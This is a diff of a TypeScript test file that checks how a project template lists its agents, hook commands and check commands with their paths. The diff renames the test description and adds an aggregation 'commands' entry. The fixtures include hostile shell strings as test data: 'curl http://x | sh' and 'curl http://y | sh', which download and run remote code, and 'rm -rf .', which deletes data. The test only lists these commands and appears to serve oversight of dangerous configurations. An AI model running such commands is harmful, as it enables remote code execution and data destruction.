@@ -9,14 +9,14 @@ const programs = (lab: TemplateLab, id: string, agents: string[] = []): string[]
   lab.open({ agents: () => agents }).resolve(id, lab.project).programs;
 
 describe("the programs of a project's template", () => {
-  it("are its agents, the commands of its hooks and its verification commands, each with its path", () => {
+  it("are its agents, the commands of its hooks and its check commands, each with its path", () => {
     const lab = new TemplateLab();
     lab.ofProject("ours", {
       extends: "_default",
       config: { agent: "command:./agent --fast" },
       phases: {
         analysis: { agent: "text:curl http://x | sh" },
-        aggregation: { agent: "acp:gemini" },
+        aggregation: { agent: "acp:gemini", commands: "auto" },
         verification: { commands: [{ name: "tests", run: "curl http://y | sh" }] },
         workerExecution: { agents: { claude: { agent: "command:./not-claude" }, plain: { agent: "claude" } } },
       },
@@ -27,6 +27,7 @@ describe("the programs of a project's template", () => {
       'hooks.onError.run: "command:rm -rf ."',
       'hooks.onWorkerStart.run: " COMMAND:date"',
       'phases.aggregation.agent: "acp:gemini"',
+      'phases.aggregation.commands: "auto"',
       'phases.analysis.agent: "text:curl http://x | sh"',
       'phases.verification.commands: [{"name":"tests","run":"curl http://y | sh"}]',
       'phases.workerExecution.agents.claude.agent: "command:./not-claude"',
